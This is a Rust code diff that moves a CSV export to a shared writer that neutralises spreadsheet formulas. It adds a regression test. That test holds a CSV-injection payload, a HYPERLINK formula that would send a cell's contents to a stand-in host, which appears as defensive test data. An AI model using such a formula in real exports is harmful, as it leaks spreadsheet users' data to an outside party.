@@ -5,6 +5,7 @@
 use crate::state::{Dest, Draft, COLUMNS};
 use chrono::NaiveDate;
 use wacost_core::catalog::markets::MarketTable;
+use wacost_core::csv;
 use wacost_core::Catalog;
 
 /// The market table for the draft's month (the latest one when the month is not valid yet), so
@@ -242,27 +243,26 @@ pub fn paste(
 }
 
 /// The sheet as CSV: `destination,marketing,utility,authentication,service`, a destination
-/// being an ISO code or a market name.
+/// being an ISO code or a market name. Written by core's CSV writer, so a market name a link
+/// brought in cannot become a spreadsheet formula.
 pub fn export_csv(draft: &Draft) -> String {
-    let mut out = String::from("destination,marketing,utility,authentication,service\n");
+    let mut out = csv::record([
+        "destination",
+        "marketing",
+        "utility",
+        "authentication",
+        "service",
+    ]);
     for line in &draft.lines {
         let dest = match &line.dest {
-            Dest::Country(iso) | Dest::Market(iso) => iso,
+            Dest::Country(iso) | Dest::Market(iso) => iso.as_str(),
         };
-        let mut cells = vec![quote(dest)];
-        cells.extend(line.counts.iter().map(|c| quote(c.trim())));
-        out.push_str(&cells.join(","));
-        out.push('\n');
+        csv::push_record(
+            &mut out,
+            std::iter::once(dest).chain(line.counts.iter().map(|c| c.trim())),
+        );
     }
     out
-}
-
-fn quote(cell: &str) -> String {
-    if cell.contains([',', '"', '\n']) {
-        format!("\"{}\"", cell.replace('"', "\"\""))
-    } else {
-        cell.to_string()
-    }
 }
 
 /// Splits one CSV record, honouring double quotes.
@@ -417,5 +417,20 @@ mod tests {
         )
         .unwrap_err();
         assert_eq!(err, "line 2: `Atlantis` is not a country or market");
+    }
+
+    #[cfg_attr(not(target_arch = "wasm32"), test)]
+    #[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
+    fn export_writes_no_formula_cell() {
+        let mut draft = Draft::empty();
+        draft.push(
+            Dest::Market("=HYPERLINK(\"https://x.example/?\"&B2,\"rates\")".into()),
+            ["@1", "+919876543210", "-2", " 12 "],
+        );
+        assert_eq!(
+            export_csv(&draft),
+            "destination,marketing,utility,authentication,service\n\
+             \"'=HYPERLINK(\"\"https://x.example/?\"\"&B2,\"\"rates\"\")\",'@1,+919876543210,-2,12\n"
+        );
     }
 }
